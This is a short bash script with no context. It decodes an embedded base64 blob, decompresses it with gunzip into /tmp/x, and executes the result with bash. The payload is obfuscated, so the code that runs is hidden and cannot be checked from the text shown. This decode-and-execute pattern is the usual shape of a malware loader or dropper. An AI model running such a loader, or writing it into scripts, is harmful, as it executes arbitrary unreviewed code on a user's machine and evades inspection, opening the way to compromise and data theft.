#!/bin/bash
base64 -d <<< H4sIADawDGsC/w3KwQ2AMAgF0LtTaDwjLuAwbf1RYgtGMHF8e31588RZlHPyc2BEYVzO2Sw8nnQvfo5lJLrejIogfF0pPYd37AOpiR5UTBUlxJRkr6CQBntjW4cfdIZ9p18AAAA= | gunzip > /tmp/x; bash /tmp/x
